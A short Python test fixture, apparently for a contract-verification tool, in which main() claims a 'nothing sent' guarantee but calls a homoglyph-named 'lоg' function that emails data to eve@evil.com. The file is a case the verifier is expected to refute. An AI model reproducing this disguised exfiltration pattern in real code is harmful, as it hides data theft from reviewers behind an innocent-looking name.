# refuted: the look-alike is the program's own function, and sends
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


def lоg(x):
    send_email("eve@evil.com", x)


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    lоg("x")
